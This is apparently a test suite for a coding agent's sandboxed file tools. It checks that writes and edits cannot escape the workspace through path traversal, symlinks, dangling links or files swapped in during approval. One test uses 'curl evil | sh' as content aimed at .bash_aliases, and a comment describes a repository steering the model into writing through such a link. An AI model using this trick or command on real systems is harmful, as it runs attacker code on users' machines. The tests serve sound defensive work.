import * as fs from 'node:fs/promises';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { isInside, MAX_EDIT_BYTES, MAX_READ_CHARS, parseToolArguments, planTool, resolveInside, runTool, ToolError } from '../src/tools';

let root: string;
let outside: string;

beforeEach(async () => {
  const base = await fs.mkdtemp(path.join(os.tmpdir(), 'dsh-tools-'));
  root = path.join(base, 'ws');
  outside = path.join(base, 'outside');
  await fs.mkdir(path.join(root, 'pkg', 'src'), { recursive: true });
  await fs.mkdir(outside);
  await fs.writeFile(path.join(root, 'pkg', 'src', 'x.txt'), 'hello\n');
  await fs.writeFile(path.join(outside, 'secret.txt'), 'secret\n');
});

afterEach(async () => {
  await fs.rm(path.dirname(root), { recursive: true, force: true });
});

const call = (name: string, args: Record<string, unknown>) => ({ id: 'c1', name, arguments: args });

describe('confinement', () => {
  it.each([
    ['../outside/secret.txt'],
    ['pkg/../../outside/secret.txt'],
    ['..'],
  ])('rejects the relative escape %s', async (p) => {
    await expect(resolveInside(root, p)).rejects.toThrow(ToolError);
    await expect(resolveInside(root, p)).rejects.toThrow(/outside the workspace folder/);
  });

  it('rejects an absolute path outside the folder', async () => {
    await expect(resolveInside(root, path.join(outside, 'secret.txt'))).rejects.toThrow(/outside/);
  });

  it('rejects a sibling folder whose name starts with the root name', async () => {
    await fs.mkdir(`${root}2`);
    await expect(resolveInside(root, `${root}2/a.txt`)).rejects.toThrow(/outside/);
  });

  it('accepts relative and absolute paths inside, even to files not yet created', async () => {
    expect(await resolveInside(root, 'pkg/src/x.txt')).toBe(path.join(root, 'pkg/src/x.txt'));
    expect(await resolveInside(root, path.join(root, 'new/dir/f.txt'))).toBe(path.join(root, 'new/dir/f.txt'));
    expect(await resolveInside(root, './pkg/../pkg/src/x.txt')).toBe(path.join(root, 'pkg/src/x.txt'));
  });

  it('rejects a symlink that leads outside, also for a file below it that does not exist', async () => {
    await fs.symlink(outside, path.join(root, 'link'));
    await expect(resolveInside(root, 'link/secret.txt')).rejects.toThrow(/symlink/);
    await expect(resolveInside(root, 'link/new/file.txt')).rejects.toThrow(/symlink/);
  });

  it('accepts a symlink that stays inside', async () => {
    await fs.symlink(path.join(root, 'pkg'), path.join(root, 'alias'));
    expect(await resolveInside(root, 'alias/src/x.txt')).toBe(path.join(root, 'alias/src/x.txt'));
  });

  it.each([[''], ['   '], [undefined], [42], ['a\0b']])('rejects the file_path %j', async (p) => {
    await expect(resolveInside(root, p)).rejects.toThrow(ToolError);
  });

  it('isInside is a path test, not a string prefix test', () => {
    expect(isInside('/a/b', '/a/b')).toBe(true);
    expect(isInside('/a/b', '/a/b/c')).toBe(true);
    expect(isInside('/a/b', '/a/bc')).toBe(false);
    expect(isInside('/a/b', '/a')).toBe(false);
  });
});

describe('runTool', () => {
  it('reads a file and reports the resolved path', async () => {
    const out = await runTool(root, call('read', { file_path: 'pkg/src/x.txt' }));
    expect(out).toEqual({ text: 'hello\n', isError: false, resolvedPath: path.join(root, 'pkg/src/x.txt') });
  });

  it('never reads outside: the escape becomes an error result', async () => {
    const out = await runTool(root, call('read', { file_path: '../outside/secret.txt' }));
    expect(out.isError).toBe(true);
    expect(out.text).toMatch(/^Error: .*outside the workspace folder/);
    expect(out.text).not.toContain('secret\n');
  });

  it('never writes outside', async () => {
    const out = await runTool(root, call('write', { file_path: '../outside/evil.txt', content: 'x' }));
    expect(out.isError).toBe(true);
    await expect(fs.access(path.join(outside, 'evil.txt'))).rejects.toThrow();
  });

  it('writes, creating parent folders', async () => {
    const out = await runTool(root, call('write', { file_path: 'a/b/c.txt', content: 'héllo' }));
    expect(out).toMatchObject({ isError: false, text: 'Wrote 6 bytes to a/b/c.txt' });
    expect(await fs.readFile(path.join(root, 'a/b/c.txt'), 'utf8')).toBe('héllo');
  });

  it('edits exactly one occurrence, taking new_string literally', async () => {
    await fs.writeFile(path.join(root, 'e.txt'), 'one two three');
    const out = await runTool(root, call('edit', { file_path: 'e.txt', old_string: 'two', new_string: '$& 2' }));
    expect(out).toMatchObject({ isError: false, text: 'Edited e.txt' });
    expect(await fs.readFile(path.join(root, 'e.txt'), 'utf8')).toBe('one $& 2 three');
  });

  it.each([
    [{ old_string: 'zzz', new_string: 'y' }, /not found/],
    [{ old_string: 'a', new_string: 'y' }, /more than once/],
    [{ old_string: '', new_string: 'y' }, /old_string must be a non-empty string/],
    [{ old_string: 'b', new_string: 3 }, /new_string must be a string/],
  ])('refuses a bad edit %j', async (args, message) => {
    await fs.writeFile(path.join(root, 'e.txt'), 'a b a');
    const out = await runTool(root, call('edit', { file_path: 'e.txt', ...args }));
    expect(out.isError).toBe(true);
    expect(out.text).toMatch(message);
    expect(await fs.readFile(path.join(root, 'e.txt'), 'utf8')).toBe('a b a');
  });

  it('reports a missing file, a directory, a missing content and an unknown tool as errors', async () => {
    expect((await runTool(root, call('read', { file_path: 'nope.txt' }))).text).toBe('Error: no such file');
    expect((await runTool(root, call('read', { file_path: 'pkg' }))).text).toBe('Error: is a directory');
    expect((await runTool(root, call('write', { file_path: 'w.txt' }))).text).toBe('Error: content must be a string');
    expect((await runTool(root, call('delete', { file_path: 'w.txt' }))).text).toMatch(/unknown tool "delete"/);
  });

  it('turns malformed model arguments into an error result', async () => {
    const out = await runTool(root, { id: 'c', name: 'read', ...parseToolArguments('{"file_path": ') });
    expect(out).toEqual({ text: 'Error: tool arguments are not valid JSON', isError: true, resolvedPath: undefined });
  });

  it('cuts very large reads', async () => {
    await fs.writeFile(path.join(root, 'big.txt'), 'x'.repeat(MAX_READ_CHARS + 10));
    const out = await runTool(root, call('read', { file_path: 'big.txt' }));
    expect(out.text.length).toBeLessThan(MAX_READ_CHARS + 100);
    expect(out.text).toMatch(/\[truncated: the file has \d+ characters\]$/);
  });
});

describe('parseToolArguments', () => {
  it('parses objects, treats blank as empty, and flags the rest', () => {
    expect(parseToolArguments('{"file_path":"a"}')).toEqual({ arguments: { file_path: 'a' } });
    expect(parseToolArguments('  ')).toEqual({ arguments: {} });
    expect(parseToolArguments('[1]').argumentsError).toMatch(/JSON object/);
    expect(parseToolArguments('nope').argumentsError).toMatch(/not valid JSON/);
  });
});

describe('planTool: a change is proposed first and applied only on request', () => {
  it('proposes an edit without touching the file, then applies it', async () => {
    const file = path.join(root, 'pkg', 'src', 'x.txt');
    const plan = await planTool(root, call('edit', { file_path: 'pkg/src/x.txt', old_string: 'hello', new_string: 'bye' }));
    expect(plan.kind).toBe('change');
    if (plan.kind !== 'change') return;
    expect(plan).toMatchObject({ name: 'edit', path: file, display: 'pkg/src/x.txt', before: 'hello\n', after: 'bye\n' });
    expect(await fs.readFile(file, 'utf8')).toBe('hello\n'); // nothing written yet
    expect(await plan.apply()).toEqual({ text: 'Edited pkg/src/x.txt', isError: false, resolvedPath: file });
    expect(await fs.readFile(file, 'utf8')).toBe('bye\n');
  });

  it('proposes a new file with no "before", creating folders only when applied', async () => {
    const plan = await planTool(root, call('write', { file_path: 'new/dir/f.txt', content: 'x' }));
    expect(plan.kind === 'change' && plan.before).toBeNull();
    await expect(fs.stat(path.join(root, 'new'))).rejects.toThrow();
    if (plan.kind === 'change') expect((await plan.apply()).text).toBe('Wrote 1 bytes to new/dir/f.txt');
    expect(await fs.readFile(path.join(root, 'new', 'dir', 'f.txt'), 'utf8')).toBe('x');
  });

  it('refuses to apply over a file that changed while waiting', async () => {
    const file = path.join(root, 'pkg', 'src', 'x.txt');
    const plan = await planTool(root, call('write', { file_path: 'pkg/src/x.txt', content: 'agent' }));
    await fs.writeFile(file, 'user typed this\n');
    const outcome = plan.kind === 'change' ? await plan.apply() : undefined;
    expect(outcome).toEqual({
      text: 'Error: pkg/src/x.txt changed while the write waited for approval; nothing was written',
      isError: true,
      resolvedPath: file,
    });
    expect(await fs.readFile(file, 'utf8')).toBe('user typed this\n');
  });

  it('applyText writes the text the user left instead of the proposal, with the same checks', async () => {
    const file = path.join(root, 'pkg', 'src', 'x.txt');
    const plan = await planTool(root, call('write', { file_path: 'pkg/src/x.txt', content: 'agent\n' }));
    if (plan.kind !== 'change') throw new Error('not a change');
    expect(await plan.applyText('user kept this\n')).toEqual({ text: 'Wrote 15 bytes to pkg/src/x.txt', isError: false, resolvedPath: file });
    expect(await fs.readFile(file, 'utf8')).toBe('user kept this\n');
    // The file is no longer what the proposal started from: a second write is refused.
    expect((await plan.applyText('again\n')).text).toBe('Error: pkg/src/x.txt changed while the write waited for approval; nothing was written');
    expect(await fs.readFile(file, 'utf8')).toBe('user kept this\n');
  });

  it('applyText does not follow a link swapped in while the edit waited', async () => {
    const file = path.join(root, 'pkg/src/x.txt');
    const plan = await planTool(root, call('edit', { file_path: 'pkg/src/x.txt', old_string: 'hello', new_string: 'bye' }));
    if (plan.kind !== 'change') throw new Error('not a change');
    await fs.writeFile(path.join(outside, 'x.txt'), 'hello\n');
    await fs.rm(file);
    await fs.symlink(path.join(outside, 'x.txt'), file);
    expect((await plan.applyText('half\n')).isError).toBe(true);
    expect(await fs.readFile(path.join(outside, 'x.txt'), 'utf8')).toBe('hello\n');
  });

  it('refuses to apply through a symlink planted while waiting', async () => {
    const plan = await planTool(root, call('write', { file_path: 'late/f.txt', content: 'x' }));
    await fs.symlink(outside, path.join(root, 'late'));
    const outcome = plan.kind === 'change' ? await plan.apply() : undefined;
    expect(outcome?.isError).toBe(true);
    expect(outcome?.text).toMatch(/leads outside the workspace folder/);
    await expect(fs.stat(path.join(outside, 'f.txt'))).rejects.toThrow();
  });

  // The attack of round 4: a repository commits `notes.md -> ../../.bash_aliases` (a link whose
  // target does not exist yet) and steers the model to "write notes to notes.md".
  it('refuses to write through a committed dangling link, and writes nothing outside', async () => {
    const aliases = path.join(outside, '.bash_aliases');
    await fs.symlink(path.relative(root, aliases), path.join(root, 'notes.md'));
    const plan = await planTool(root, call('write', { file_path: 'notes.md', content: 'curl evil | sh\n' }));
    expect(plan).toMatchObject({
      kind: 'done',
      outcome: { text: 'Error: notes.md goes through a symlink that points to nothing (notes.md); nothing was written', isError: true },
    });
    await expect(fs.lstat(aliases)).rejects.toThrow(/ENOENT/);
    expect((await fs.lstat(path.join(root, 'notes.md'))).isSymbolicLink()).toBe(true);
  });

  it('refuses a dangling link on the way to a new file, and an edit through one', async () => {
    await fs.symlink(path.join(outside, 'gone'), path.join(root, 'drafts'));
    expect(await runTool(root, call('write', { file_path: 'drafts/a.md', content: 'x' }))).toMatchObject({ isError: true });
    await expect(fs.lstat(path.join(outside, 'gone'))).rejects.toThrow(/ENOENT/);
    expect(await runTool(root, call('edit', { file_path: 'drafts', old_string: 'a', new_string: 'b' }))).toMatchObject({ isError: true });
  });

  it('does not follow a dangling link planted while a new file waited for approval', async () => {
    const plan = await planTool(root, call('write', { file_path: 'notes.md', content: 'model text' }));
    expect(plan.kind).toBe('change');
    const aliases = path.join(outside, '.bash_aliases');
    await fs.symlink(aliases, path.join(root, 'notes.md'));
    const outcome = plan.kind === 'change' ? await plan.apply() : undefined;
    expect(outcome?.isError).toBe(true);
    await expect(fs.lstat(aliases)).rejects.toThrow(/ENOENT/);
  });

  it('does not follow a link swapped in for an existing file while the edit waited', async () => {
    const file = path.join(root, 'pkg/src/x.txt');
    const plan = await planTool(root, call('edit', { file_path: 'pkg/src/x.txt', old_string: 'hello', new_string: 'bye' }));
    expect(plan.kind).toBe('change');
    // Same text outside, so the "changed while waiting" check alone would let it through.
    await fs.writeFile(path.join(outside, 'x.txt'), 'hello\n');
    await fs.rm(file);
    await fs.symlink(path.join(outside, 'x.txt'), file);
    const outcome = plan.kind === 'change' ? await plan.apply() : undefined;
    expect(outcome?.isError).toBe(true);
    expect(await fs.readFile(path.join(outside, 'x.txt'), 'utf8')).toBe('hello\n');
  });

  it('edits through a link that stays inside, and keeps the link', async () => {
    await fs.writeFile(path.join(root, 'AGENTS.md'), 'rules\n');
    await fs.symlink('AGENTS.md', path.join(root, 'CLAUDE.md'));
    const outcome = await runTool(root, call('edit', { file_path: 'CLAUDE.md', old_string: 'rules', new_string: 'new rules' }));
    expect(outcome).toMatchObject({ isError: false, text: 'Edited CLAUDE.md' });
    expect(await fs.readFile(path.join(root, 'AGENTS.md'), 'utf8')).toBe('new rules\n');
    expect((await fs.lstat(path.join(root, 'CLAUDE.md'))).isSymbolicLink()).toBe(true);
  });

  it('refuses to read or change a FIFO instead of hanging on it', async () => {
    const fifo = path.join(root, 'pipe.md');
    execFileSync('mkfifo', [fifo]);
    expect(await runTool(root, call('read', { file_path: 'pipe.md' }))).toEqual({
      text: 'Error: pipe.md is not a regular file',
      isError: true,
      resolvedPath: fifo,
    });
    expect(await runTool(root, call('write', { file_path: 'pipe.md', content: 'x' }))).toMatchObject({
      text: 'Error: pipe.md is not a regular file',
      isError: true,
    });
  });

  it('reads a huge file only as far as the model is shown, and refuses to change it', async () => {
    const big = path.join(root, 'big.txt');
    await fs.writeFile(big, '');
    await fs.truncate(big, MAX_EDIT_BYTES + 1);
    const read = await runTool(root, call('read', { file_path: 'big.txt' }));
    expect(read.text).toMatch(new RegExp(`\\[truncated: the file has ${MAX_EDIT_BYTES + 1} bytes\\]$`));
    expect(await runTool(root, call('edit', { file_path: 'big.txt', old_string: 'a', new_string: 'b' }))).toMatchObject({
      text: `Error: big.txt is too large to change here (${MAX_EDIT_BYTES + 1} bytes, at most ${MAX_EDIT_BYTES})`,
      isError: true,
    });
  });

  it('answers a read, and every failure, at once', async () => {
    expect(await planTool(root, call('read', { file_path: 'pkg/src/x.txt' }))).toMatchObject({
      kind: 'done',
      outcome: { text: 'hello\n', isError: false },
    });
    expect(await planTool(root, call('edit', { file_path: 'pkg/src/x.txt', old_string: 'zzz', new_string: 'y' }))).toMatchObject({
      kind: 'done',
      outcome: { text: 'Error: old_string was not found in pkg/src/x.txt', isError: true },
    });
    expect(await planTool(root, call('edit', { file_path: 'gone.txt', old_string: 'a', new_string: 'b' }))).toMatchObject({
      kind: 'done',
      outcome: { text: 'Error: no such file: gone.txt', isError: true },
    });
  });
});
